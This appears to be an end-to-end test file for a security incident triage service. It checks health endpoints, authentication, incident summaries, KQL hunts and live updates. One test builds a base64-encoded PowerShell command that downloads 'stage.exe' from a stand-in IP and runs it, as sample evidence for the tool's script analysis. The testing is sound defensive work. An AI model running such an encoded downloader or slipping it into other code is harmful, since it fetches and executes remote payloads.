import { createHash } from 'node:crypto';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createClient } from 'graphql-ws';
import WebSocket from 'ws';
import { eventually } from '@attest/testing';
import { ask, importIncident, postgresPid, start, type Running } from './running.js';

describe('npm start, once built', () => {
  let dataDir: string;
  let attest: Running;

  beforeAll(async () => {
    dataDir = await mkdtemp(join(tmpdir(), 'attest-newcomer-'));
    attest = await start(dataDir);
  });

  afterAll(async () => {
    attest.process.kill('SIGKILL');
    const location = await readFile(join(dataDir, 'postgres', 'LOCATION'), 'utf8').catch(() => undefined);
    if (location) await rm(location.trim(), { recursive: true, force: true });
    await rm(dataDir, { recursive: true, force: true });
  });

  it('serves health, readiness, metrics and the page on one port, and refuses strangers', async () => {
    for (const [path, type] of [['/healthz', /json/], ['/readyz', /json/], ['/metrics', /text\/plain/], ['/', /html/]] as const) {
      const response = await fetch(attest.url + path);
      expect([path, response.status]).toEqual([path, 200]);
      expect(response.headers.get('content-type')).toMatch(type);
    }
    expect((await fetch(`${attest.url}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"query":"{ me { name } }"}' })).status).toBe(401);
    expect((await fetch(`${attest.url}/api/incidents`, { method: 'POST', body: '{}' })).status).toBe(401);
  });

  it('has summarised the sample incidents by itself', async () => {
    await eventually('all current', async () => {
      const { incidents } = await ask<{ incidents: { nodes: { summary: { current: boolean } | null }[] } }>(attest, '{ incidents { nodes { summary { current } } } }');
      return incidents.nodes.length === 4 && incidents.nodes.every(({ summary }) => summary?.current);
    });
    const { incident } = await ask<{ incident: { summary: { statements: { text: string; facts: string[] }[]; provenance: { composer: string } } } }>(
      attest,
      '{ incident(id: "9001") { summary { statements { text facts } provenance { composer } } } }',
    );
    expect(incident.summary.provenance.composer).toBe('rules');
    expect(incident.summary.statements.map(({ text }) => text).join(' ')).toContain('winx64_payload.exe');
    expect(incident.summary.statements.every(({ facts }) => facts.length > 0)).toBe(true);
  });

  it('answers a question with the rows of the sample incidents, and gives them as a file', async () => {
    interface Asked { askHunt: { id: string; status: string; kql: string; tables: string[]; dryRun: { rowCount: number } | null; logic: { text: string }[]; literals: { value: string; origin: string }[] } }
    let asked: Asked['askHunt'] | undefined;
    await eventually('rows', async () => {
      asked = (await ask<Asked>(attest, 'mutation { askHunt(question: "List process events with file name cmd.exe") { id status kql tables dryRun { rowCount } logic { text } literals { value origin } } }')).askHunt;
      return (asked.dryRun?.rowCount ?? 0) > 0;
    });
    expect(asked).toMatchObject({ status: 'ANSWERED', tables: ['DeviceProcessEvents'], literals: expect.arrayContaining([expect.objectContaining({ origin: 'QUESTION' })]) as unknown });
    expect(asked?.logic.length).toBeGreaterThan(1);
    const { runHunt } = await ask<{ runHunt: { id: string; status: string; rowCount: number } }>(attest, `mutation { runHunt(kql: ${JSON.stringify(asked?.kql)}, huntId: "${asked?.id ?? ''}") { id status rowCount } }`);
    expect(runHunt).toMatchObject({ status: 'DONE', rowCount: asked?.dryRun?.rowCount });
    const csv = await (await fetch(`${attest.url}/api/hunts/${runHunt.id}/rows.csv`, { headers: { authorization: attest.authorization } })).text();
    expect(csv.split('\r\n')[0]).toContain('DeviceName');
    expect((await fetch(`${attest.url}/api/hunts/${runHunt.id}/rows.csv`)).status).toBe(401);
  });

  it('tells who has the incident open about its new summary, enriched by every service', async () => {
    class Signed extends WebSocket {
      constructor(address: string, protocols?: string | string[]) {
        super(address, protocols, { headers: { authorization: attest.authorization } });
      }
    }
    const client = createClient({ url: `${attest.url.replace('http', 'ws')}/graphql`, webSocketImpl: Signed, retryAttempts: 0 });
    const heard: { kind: string }[] = [];
    const failed: unknown[] = [];
    client.subscribe<{ cardChanged: { kind: string } }>({ query: 'subscription { cardChanged(subjectId: "new-1") { kind version incident { displayName summary { version } } } }' }, { next: ({ data }) => data && heard.push(data.cardChanged), error: (error) => failed.push(error), complete: () => undefined });
    await new Promise((resolve) => setTimeout(resolve, 1_000));
    await importIncident(attest, { id: 'new-1', displayName: 'Just in', severity: 'high', alerts: [{ id: 'n1', title: 'Password spray', severity: 'high', firstActivityDateTime: '2025-01-01T00:00:00Z' }] });
    await eventually('heard of both cards', () => new Set(heard.map(({ kind }) => kind)).size > 1 || failed.length > 0, 60_000);
    expect(failed).toEqual([]);
    expect(heard.map(({ kind }) => kind)).toContain('guidedResponse');
    expect(heard.find(({ kind }) => kind === 'incidentSummary')).toEqual({ kind: 'incidentSummary', version: 1, incident: { displayName: 'Just in', summary: { version: 1 } } });
    await client.dispose();
  });

  it('makes a new version of a summary on request', async () => {
    const { regenerateSummary } = await ask<{ regenerateSummary: { version: number; current: boolean } }>(attest, 'mutation { regenerateSummary(incidentId: "new-1") { version current } }');
    expect(regenerateSummary).toEqual({ version: 2, current: true });
    await expect(ask(attest, 'mutation { regenerateSummary(incidentId: "none") { version } }')).rejects.toThrow('There is no incident none');
  });

  it('tells in the summary what a script of the incident does, once it is analysed', async () => {
    const hidden = Buffer.from("Invoke-WebRequest -Uri 'http://203.0.113.40/stage.exe' -OutFile $env:TEMP\\s.exe; Start-Process $env:TEMP\\s.exe", 'utf16le').toString('base64');
    const command = `powershell.exe -NoProfile -EncodedCommand ${hidden}`;
    await importIncident(attest, { id: 'new-2', displayName: 'Encoded', severity: 'high', alerts: [{ id: 'n2', title: 'Suspicious PowerShell', severity: 'high', firstActivityDateTime: '2025-01-01T00:00:00Z', evidence: [{ '@odata.type': '#microsoft.graph.security.processEvidence', processCommandLine: command, imageFile: { fileName: 'powershell.exe' } }] }] });
    interface Told { incident: { summary: { statements: { text: string; facts: string[] }[]; facts: { id: string; source: { kind: string; sha256: string | null; layer: number | null; alertId: string | null } }[]; indicators: { value: string }[] } | null } }
    const told = async (): Promise<Told['incident']['summary']> => (await ask<Told>(attest, '{ incident(id: "new-2") { summary { statements { text facts } facts { id source { kind sha256 layer alertId } } indicators { value } } } }')).incident.summary;
    await eventually('told', async () => (await told())?.statements.some(({ text }) => text.includes('malicious by script analysis')) ?? false, 90_000);
    const summary = await told();
    const said = summary?.statements.find(({ text }) => text.includes('malicious by script analysis'));
    const sources = said?.facts.map((id) => summary?.facts.find((fact) => fact.id === id)?.source);
    expect(sources?.map((source) => source?.kind)).toEqual(['script', 'evidence']);
    expect(sources?.[0]?.sha256).toBe(createHash('sha256').update(command).digest('hex'));
    expect(summary?.indicators.map(({ value }) => value)).toContain('http://203.0.113.40/stage.exe');
  });

  it('stops on Ctrl-C with nothing left behind, and starts again with everything', async () => {
    const pidFile = await postgresPid(dataDir);
    attest.process.kill('SIGINT');
    await eventually('ended', () => attest.process.exitCode !== null, 60_000);
    expect(attest.process.exitCode).toBe(0);
    expect(() => process.kill(pidFile, 0)).toThrow();
    attest = await start(dataDir);
    const { incidents } = await ask<{ incidents: { totalCount: number } }>(attest, '{ incidents { totalCount } }');
    expect(incidents.totalCount).toBe(6);
  });

  it('ends with its launcher, however that went', async () => {
    const pid = await postgresPid(dataDir);
    attest.process.disconnect();
    await eventually('ended', () => attest.process.exitCode !== null, 60_000);
    expect(() => process.kill(pid, 0)).toThrow();
  });
});
